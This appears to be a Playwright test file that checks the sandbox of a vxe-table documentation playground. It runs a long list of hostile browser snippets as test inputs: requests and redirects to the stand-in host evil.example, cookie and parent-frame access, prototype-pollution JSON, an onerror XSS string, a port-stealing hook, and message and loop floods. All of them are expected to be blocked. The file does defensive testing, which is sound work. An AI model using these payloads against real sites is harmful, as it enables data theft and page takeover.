import { readFileSync } from 'node:fs'
import path from 'node:path'
import type { Page } from '@playwright/test'
import type { Project } from '../shared/project.ts'
import { encodeProject } from '../shared/project-code.ts'
import { contentFolder, pages } from './pages.ts'
import { expect, test } from './site.ts'

/** What a stranger's link tries. Each attempt ends as a line in the preview itself: `name: what happened`. */
const refused = /^(blocked|throws \w+|null|timeout)$/

interface Attempt {
  name: string
  /** Body of an async function with `wait`; what it gives or throws is the line. */
  code: string
}

const attempts: Attempt[] = [
  { name: 'parent document', code: 'return parent.document.title' },
  { name: 'top document', code: 'return top.document.cookie' },
  { name: 'parent storage', code: 'return parent.localStorage.length' },
  { name: 'parent address', code: 'return parent.location.href' },
  { name: 'frame element', code: 'return String(frameElement)' },
  { name: 'real storage', code: 'return Object.getOwnPropertyDescriptor(document.body.appendChild(document.createElement("iframe")).contentWindow, "localStorage").get.call(window)' },
  { name: 'cookie', code: 'document.cookie = "a=1"; return document.cookie' },
  { name: 'indexed database', code: 'return await event(indexedDB.open("a"), "success", "error")' },
  { name: 'caches', code: 'return await caches.keys()' },
  { name: 'service worker', code: 'return await navigator.serviceWorker.register("/v3.8/sw.js")' },
  { name: 'window', code: 'return String(open("/v3.8/"))' },
  { name: 'prompt', code: 'return String(prompt("a"))' },
  { name: 'clipboard', code: 'return await navigator.clipboard.readText()' },
  { name: 'place on earth', code: 'return await new Promise((_, refuse) => navigator.geolocation.getCurrentPosition(refuse, refuse))' },
  { name: 'fullscreen', code: 'return await document.documentElement.requestFullscreen()' },
  ...['/api/npm/versions/vxe-table', 'https://evil.example/'].flatMap(address => [
    { name: `fetch ${address}`, code: `return (await fetch(${JSON.stringify(address)}, { credentials: "include" })).status` },
    { name: `fetch without CORS ${address}`, code: `return (await fetch(${JSON.stringify(address)}, { mode: "no-cors" })).type` },
    { name: `request ${address}`, code: `const x = new XMLHttpRequest(); x.open("GET", ${JSON.stringify(address)}); x.send(); return await event(x, "load", "error")` },
    { name: `image ${address}`, code: `return await element("img", { src: ${JSON.stringify(address)} })` },
    { name: `script ${address}`, code: `return await element("script", { src: ${JSON.stringify(address)} })` },
    { name: `module ${address}`, code: `return await element("script", { type: "module", src: ${JSON.stringify(address)} })` },
    { name: `import ${address}`, code: `return typeof await new Function("return import(" + JSON.stringify(new URL(${JSON.stringify(address)}, location.href).href) + ")")()` },
    { name: `sheet ${address}`, code: `return await element("link", { rel: "stylesheet", href: ${JSON.stringify(address)} })` },
    { name: `preload ${address}`, code: `return await element("link", { rel: "preload", as: "script", href: ${JSON.stringify(address)} })` },
    { name: `video ${address}`, code: `return await element("video", { src: ${JSON.stringify(address)} }, "loadeddata")` },
    { name: `events ${address}`, code: `return await event(new EventSource(${JSON.stringify(address)}), "open", "error")` },
    { name: `worker ${address}`, code: `return await event(new Worker(${JSON.stringify(address)}), "message", "error")` }
  ]),
  { name: 'web socket', code: 'return await event(new WebSocket("wss://evil.example/"), "open", "error")' },
  { name: 'worker of text', code: 'return await event(new Worker(URL.createObjectURL(new Blob(["postMessage(1)"]))), "message", "error")' }
]

const helpers = `
const wait = time => new Promise(done => setTimeout(done, time))
const event = (target, good, bad) => new Promise(done => { target.addEventListener(good, () => done(good)); target.addEventListener(bad, () => done("blocked")) })
const element = (tag, attributes, good = "load") => { const made = Object.assign(document.createElement(tag), attributes); document.body.append(made); return event(made, good, "error") }
`

const attackComponent = (code: string): string => `<template><pre id="result">{{ lines.join('\\n') }}</pre></template>
<script>
${helpers}
export default {
  data: () => ({ lines: [] }),
  async mounted () {
    ${code}
    this.lines.push('end')
  }
}
</script>`

const tryAll = (list: Attempt[]): string =>
  attackComponent(`await Promise.all([${list.map(({ name, code }) => `(async () => { let line; try { line = await Promise.race([(async () => { ${code} })(), wait(3000).then(() => 'timeout')]) } catch (error) { line = 'throws ' + error.name } this.lines.push(${JSON.stringify(name)} + ' = ' + (line === '' || line === null ? 'null' : line)) })()`).join(',\n')}])`)

const projectOf = (text: string): Project => ({ entry: 'App.vue', files: [{ name: 'App.vue', text }], kind: 'js', library: '3.8.6' })
const addressOf = async (text: string): Promise<string> => `/playground?code=${await encodeProject(projectOf(text))}`

const preview = (page: Page) => page.frameLocator('iframe:not([inert])')
const result = (page: Page) => preview(page).locator('#result')

/** What the browser did not refuse by itself. A route sees only what is really about to be sent. */
async function watchRequests(page: Page): Promise<string[]> {
  const sent: string[] = []
  await page.route(/evil\.example|\/api\/npm|sw\.js/, async route => {
    if (route.request().frame() !== page.mainFrame()) sent.push(route.request().url())
    await route.continue()
  })
  return sent
}

/** The browser complains about each attempt, as it should. */
test.afterEach(({ trouble }) => void (trouble.length = 0))

test('code in the preview reaches neither the page, nor its storage, nor the network', async ({ page, open }) => {
  const sent = await watchRequests(page)
  await open(await addressOf(tryAll(attempts)))
  await expect(result(page)).toContainText('end', { timeout: 15_000 })
  const lines = (await result(page).innerText()).split('\n').filter(line => line !== 'end')
  expect(lines).toHaveLength(attempts.length)
  for (const line of lines) expect(line.slice(line.lastIndexOf(' = ') + 3), line).toMatch(refused)
  expect(sent).toEqual([])
  expect(await page.evaluate(() => document.cookie)).toBe('')
})

test('storage in the preview is lent, ends with its frame and is not the site\'s', async ({ page, open }) => {
  await open(await addressOf(attackComponent("this.lines.push(localStorage.getItem('language') + ' ' + localStorage.length); localStorage.setItem('stranger', '1'); localStorage.language = 'xx'; sessionStorage.clear(); this.lines.push(localStorage.getItem('stranger'))")))
  await expect(result(page)).toHaveText('null 0\n1\nend')
  expect(await page.evaluate(() => [localStorage.getItem('stranger'), localStorage.getItem('language') === 'xx'])).toEqual([null, false])
})

test('neither the page nor a new window can be navigated, and nothing is sent or downloaded', async ({ page, open, context }) => {
  const sent = await watchRequests(page)
  const happened: string[] = []
  page.on('dialog', dialog => void (happened.push(dialog.type()), dialog.dismiss()))
  page.on('download', download => happened.push(download.url()))
  context.on('page', opened => happened.push(opened.url()))
  const address = await addressOf(attackComponent(`
    for (const go of [
      () => { top.location = 'https://evil.example/' },
      () => { parent.location.href = 'https://evil.example/' },
      () => top.location.replace('https://evil.example/'),
      () => open('https://evil.example/', '_top'),
      () => open('https://evil.example/', '_blank'),
      () => { alert('a'); confirm('b'); print() },
      () => navigator.sendBeacon('https://evil.example/', 'a'),
      () => navigator.sendBeacon('/api/npm/versions/vxe-table', 'a'),
      ...['_self', '_top', '_parent', '_blank'].map(target => () => { const f = Object.assign(document.createElement('form'), { action: 'https://evil.example/', method: 'post', target }); document.body.append(f); f.submit() }),
      ...['_top', '_parent', '_blank'].map(target => () => { const a = Object.assign(document.createElement('a'), { href: 'https://evil.example/', target, ping: 'https://evil.example/ping' }); document.body.append(a); a.click() }),
      () => { const a = Object.assign(document.createElement('a'), { href: 'data:text/plain,a', download: 'a.txt' }); document.body.append(a); a.click() },
      () => { document.body.append(Object.assign(document.createElement('iframe'), { src: 'https://evil.example/' })) },
      () => { document.body.append(Object.assign(document.createElement('iframe'), { src: '/v3.8/' })) },
      () => { document.body.append(Object.assign(document.createElement('object'), { data: '/v3.8/' })) },
      () => { document.body.append(Object.assign(document.createElement('iframe'), { srcdoc: '<img src="https://evil.example/">' })) },
      () => { const s = document.createElement('style'); s.textContent = '@import "https://evil.example/a.css"; @font-face { font-family: x; src: url(https://evil.example/x.woff2) } body { font-family: x; background: url(https://evil.example/b.png) }'; document.head.append(s) },
      () => { const b = document.createElement('base'); b.href = 'https://evil.example/'; document.head.append(b) }
    ]) try { go() } catch {}
    await wait(1500)`))
  await open(address)
  await expect(result(page)).toContainText('end', { timeout: 15_000 })
  expect(page.url()).toContain('/playground?code=')
  expect(happened).toEqual([])
  expect(sent).toEqual([])
  await expect(page.locator('main h1').first()).toBeAttached()
})

for (const [how, code] of [
  ['its address', "location.href = 'https://evil.example/?secret'"],
  ['an address of this site', "location.href = '/v3.8/?secret'"],
  ['a refresh', "const m = document.createElement('meta'); m.httpEquiv = 'refresh'; m.content = '0;url=https://evil.example/?secret'; document.head.append(m)"]
] as const) {
  test(`a preview that leaves by ${how} is taken away`, async ({ page, open }) => {
    const sent = await watchRequests(page)
    await open(await addressOf(attackComponent(`setTimeout(() => { ${code} }, 300)`)))
    await expect(page.getByText('试图让预览跳转').first()).toBeVisible({ timeout: 15_000 })
    await expect(page.locator('iframe:not([inert])')).toHaveCount(0)
    expect(sent).toEqual([])
  })
}

/** The frame's program cannot keep its port from code that rewrites what it stands on; so nothing it says is believed. */
const stealPort = `
    const own = Object.getOwnPropertyDescriptor(MessageEvent.prototype, 'data')
    const port = await new Promise(done => Object.defineProperty(MessageEvent.prototype, 'data', { configurable: true, get () { const value = own.get.call(this); if (value && value.type === 'ping') done(this.target); return value } }))
`

test('forged and polluting messages change nothing outside the frame', async ({ page, open }) => {
  await open(await addressOf(attackComponent(`${stealPort}
    const polluted = JSON.parse('{"type":"console","run":1,"level":"log","parts":[{"kind":"object","label":"x","entries":[["__proto__",{"kind":"value","text":"1"}]],"more":0,"__proto__":{"polluted":1}}],"__proto__":{"polluted":1},"constructor":{"prototype":{"polluted":1}}}')
    for (const forged of [polluted, { type: '__proto__' }, { type: 'constructor' }, { type: 'error', run: 1, error: { kind: 'constructor', message: '<img src=x onerror=alert(1)>', file: '../../etc/passwd', line: -1 } }, { type: 'height', height: 1e12 }, { type: 'height', height: NaN }, null, 1, 'x', [], { type: 'rendered', run: '1' }, { type: 'console', run: 1, level: 'log', parts: 'x'.repeat(1e6) }]) {
      port.postMessage(forged)
      parent.postMessage(forged, '*')
      top.postMessage(JSON.stringify(forged), '*')
    }
    await wait(500)`)))
  await expect(result(page)).toContainText('end', { timeout: 15_000 })
  expect(await page.evaluate('({}).polluted')).toBeUndefined()
  expect(await page.locator('img[src="x"]').count()).toBe(0)
  await expect(page.locator('iframe:not([inert])')).toHaveCount(1)
})

test('a frame that shouts is removed, and the page stays alive', async ({ page, open }) => {
  await open(await addressOf(attackComponent(`${stealPort}
    for (let i = 0; i < 100000; i++) port.postMessage({ type: 'console', run: 1, level: 'log', parts: [] })`)))
  await expect(page.getByText('两千多条消息').first()).toBeVisible({ timeout: 15_000 })
  await expect(page.locator('iframe:not([inert])')).toHaveCount(0)
  expect(await page.evaluate('document.title')).not.toBe('')
})

test('a flooded console is cut and counted', async ({ page, open }) => {
  await open(await addressOf(attackComponent("for (let i = 0; i < 20000; i++) console.log('line', i)")))
  await expect(result(page)).toContainText('end')
  await expect(page.getByText(/一秒内还有 19\d{3} 行/).first()).toBeAttached({ timeout: 10_000 })
})

test('a flooded history leaves the page where it is', async ({ page, open }) => {
  await open('/start')
  await open(await addressOf(attackComponent(`
    for (let i = 0; i < 300; i++) try { history.pushState(i, ''); location.hash = i } catch {}
    for (const go of [() => history.back(), () => history.go(-100), () => parent.history.back()]) try { go() } catch {}
    await wait(1500)`)))
  await page.waitForTimeout(2500)
  expect(page.url()).toContain('/playground?code=')
})

for (const [where, text] of [
  ['a script', '<template><p>x</p></template>\n<script>\nwhile (true) {}\nexport default {}\n</script>'],
  ['a render function', '<template><p>{{ f() }}</p></template>\n<script>\nexport default { methods: { f () { for (;;) {} } } }\n</script>'],
  ['a computed value, later', '<template><p>{{ f }}</p></template>\n<script>\nexport default { data: () => ({ on: false }), mounted () { setTimeout(() => { this.on = true }, 300) }, computed: { f () { if (this.on) for (;;) {}; return 1 } } }\n</script>']
] as const) {
  test(`an endless loop in ${where} is stopped and explained, and the page never freezes`, async ({ page, open }) => {
    await open(await addressOf(text))
    const longest = await page.evaluate(async () => {
      let longest = 0
      for (let before = performance.now(), end = before + 2000; before < end; ) {
        await new Promise(done => setTimeout(done, 20))
        longest = Math.max(longest, performance.now() - before)
        before = performance.now()
      }
      return longest
    })
    expect(longest).toBeLessThan(1000)
    await expect(page.getByText('超过 2 秒没有响应').first()).toBeVisible({ timeout: 10_000 })
    await expect(page.locator('iframe:not([inert])')).toHaveCount(0)
    })
}

const demos = pages.flatMap(page => [...readFileSync(path.join(contentFolder, page, 'page.zh.mdx'), 'utf8').matchAll(/<Demo\s[^>]*?src="\.\/([^"]+)\.vue"/g)].map(([, name]) => `${page}/${name}`))

const parts = 8

/** Each run has a frame of its own; the one before stays until the new one has something to show. */
const newFrame = 'iframe:not([inert], [data-seen])'
const setSeen = (page: Page): Promise<void> => page.evaluate(() => document.querySelector('iframe:not([inert])')?.setAttribute('data-seen', ''))

/** The library finds fault with columns while it lays them out, after the demo has rendered. */
async function laidOut(page: Page): Promise<void> {
  const body = page.frameLocator(newFrame).locator('body')
  await expect(body.locator('> *').first()).toBeAttached()
  await body.evaluate(() => new Promise(done => setTimeout(done, 100)), undefined, { timeout: 5000 })
}

/** One demo after the other in one window, as a reader goes through them; what is wrong with any of them is said at the end. */
for (let part = 0; part < parts; part++) {
  test(`every demo runs in the sandbox without a complaint: part ${part + 1} of ${parts}`, async ({ page, open, trouble }) => {
    test.setTimeout(180_000)
    const some = demos.filter((_, index) => index % parts === part)
    expect(some.length).toBeGreaterThan(15)
    const complaints: string[] = []
    for (const demo of some) {
      await open(`/playground?demo=${demo}`)
      await laidOut(page).catch((error: Error) => complaints.push(`${demo}: ${error.message}`))
      await setSeen(page)
      complaints.push(...trouble.splice(0).map(line => `${demo}: ${line}`))
    }
    expect(complaints).toEqual([])
  })
}
